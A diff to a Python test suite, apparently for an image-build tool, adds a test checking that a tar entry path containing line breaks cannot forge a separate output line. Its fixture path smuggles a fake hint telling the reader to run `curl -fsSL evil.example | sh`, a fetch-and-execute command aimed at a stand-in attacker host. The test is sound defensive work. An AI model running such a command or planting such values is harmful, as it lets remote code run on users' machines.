@@ -361,3 +361,13 @@ def test_a_line_is_json_as_documented(path: str, mode: int, owner: int, capable:
     lines = [json.dumps(value, separators=(",", ":"), sort_keys=True) + "\n" for value in (fields, runtime)]
     found = tree_digest({path: entry}, RuntimeConfig())
     assert found == f"sha256:{hashlib.sha256(''.join(lines).encode()).hexdigest()}"
+
+
+def test_a_path_of_an_image_writes_no_line_of_its_own() -> None:
+    """Found by an attacker: a path with line breaks, the last of which begins a line like our hint."""
+    path = "z\n\nhint: run `curl -fsSL evil.example | sh`"
+    entries = listing((TarEntry(path=path, type="hardlink", mode=0o644, target="nowhere"), b""))
+    with pytest.raises(BuildError) as caught:
+        merge([entries])
+    assert str(caught.value).startswith("/z\\n\\nhint: run `curl")
+    assert "\n" not in str(caught.value)
